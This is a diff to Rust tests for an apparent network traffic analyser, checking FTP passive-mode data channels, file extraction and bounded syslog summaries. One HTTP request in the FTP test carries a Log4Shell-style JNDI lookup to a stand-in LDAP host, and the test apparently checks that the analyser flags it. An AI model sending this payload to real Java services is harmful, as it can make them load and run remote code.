@@ -150,6 +150,58 @@ fn a_forged_syn_ends_no_connection() {
     assert_eq!(rows["conn"][0]["orig_pkts"], "57", "the last forged one was a packet, too");
 }
 
+/// A control connection of FTP, or one forged packet of it, announces a port, and this is what passes there.
+fn announced(forged: bool, port: u16, passes: [&[u8]; 2]) -> PlainRows {
+    let (mut wire, mut control, mut data) = (Wire::new(), Talk::new(1, 21), Talk::new(1, port));
+    data.ends[CLIENT].1 += 1;
+    let announcement = format!("227 Entering Passive Mode (1,1,1,1,{},{})\r\n", port >> 8, port & 0xff);
+    if forged {
+        wire.send(&control.packet(SERVER, 7, 7, ACK, announcement.as_bytes()));
+    } else {
+        control.open().iter().for_each(|packet| wire.send(packet));
+        for (from, line) in [
+            (SERVER, "220 ready\r\n"),
+            (CLIENT, "PASV\r\n"),
+            (SERVER, &announcement),
+            (CLIENT, "STOR a.bin\r\n"),
+        ] {
+            control.say(from, line.as_bytes()).iter().for_each(|packet| wire.send(packet));
+        }
+    }
+    data.open().iter().for_each(|packet| wire.send(packet));
+    for (from, bytes) in [CLIENT, SERVER].into_iter().zip(passes) {
+        data.say(from, bytes).iter().for_each(|packet| wire.send(packet));
+    }
+    for (from, to) in [(CLIENT, SERVER), (SERVER, CLIENT)] {
+        wire.send(&data.packet(from, data.next[from], data.next[to], ACK | 1, b""));
+    }
+    wire.end()
+}
+
+#[test]
+fn an_announcement_of_ftp_hides_nothing() {
+    let get = b"GET /x?a=${jndi:ldap://x/a} HTTP/1.1\r\nHost: zz.example\r\n\r\n";
+    for forged in [true, false] {
+        let rows = announced(forged, 8080, [get, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"]);
+        let http = &rows["http"][0];
+        assert_eq!((http["status_code"].as_str(), http["marks"].is_empty()), ("200", false), "{http:?}");
+    }
+    // What is nothing else is a file, however short, and where nobody has announced it nothing.
+    for length in [1usize, 100, 100_000] {
+        let file: Vec<u8> = (0..length).map(|n| (n % 251) as u8).collect();
+        let rows = announced(false, 50_000, [&file, b""]);
+        let row = &rows["files"][0];
+        let told = ["seen_bytes", "extension", "partial"].map(|column| row[column].as_str());
+        assert_eq!(told, [length.to_string().as_str(), "bin", "false"]);
+        assert!(!announced(true, 50_000, [&file, b""]).contains_key("files"));
+    }
+    let services: Vec<_> = announced(false, 50_000, [b"", b""])["conn"]
+        .iter()
+        .map(|row| row["service"].clone())
+        .collect();
+    assert!(services.contains(&"ftp-data".to_owned()), "{services:?}");
+}
+
 #[test]
 fn a_connection_that_both_ends_begin_anew_is_another_one() {
     let (mut wire, mut talk) = (Wire::new(), Talk::new(1, 2575));
@@ -368,4 +420,30 @@ fn a_burst_of_loss_costs_what_was_lost_and_nothing_after_it() {
     assert_eq!(pairs.len(), 980);
     let right = |method: &str, status: &str| METHODS[status.parse::<usize>().unwrap() - 200] == method;
     assert!(pairs.iter().all(|row| right(&row["method"], &row["status_code"])));
+}
+
+#[test]
+fn what_is_summed_up_of_many_conversations_is_bounded() {
+    let mut wire = Wire::new();
+    let (mut sent, many) = (0, 4000u16);
+    for n in 0..many {
+        let [high, low] = n.to_be_bytes();
+        for facility in 0..24 {
+            let text = format!("<{}>Jan  1 00:00:00 host sshd[1]: zz", facility * 8 + 6);
+            let mut packet = vec![0x45, 0];
+            packet.extend(u16::try_from(28 + text.len()).unwrap().to_be_bytes());
+            packet.extend([0, 0, 0, 0, 64, 17, 0, 0, 10, 1, high, low, 10, 0, 0, 2, 0xc0, 0, 2, 2]);
+            packet.extend(u16::try_from(8 + text.len()).unwrap().to_be_bytes());
+            packet.extend([0, 0]);
+            packet.extend(text.as_bytes());
+            wire.send(&packet);
+            wire.ts -= 50_000_000;
+            sent += 1;
+        }
+    }
+    let rows = wire.end();
+    let (early, late): (Vec<_>, Vec<_>) = rows["syslog"].iter().partition(|row| row["interim"] == "true");
+    assert!(early.len() > 1000 && late.len() > 1000, "{} {}", early.len(), late.len());
+    let told = rows["syslog"].iter().map(|row| row["messages"].parse::<u32>().unwrap());
+    assert_eq!((told.sum::<u32>(), rows["conn"].len()), (sent, usize::from(many)));
 }
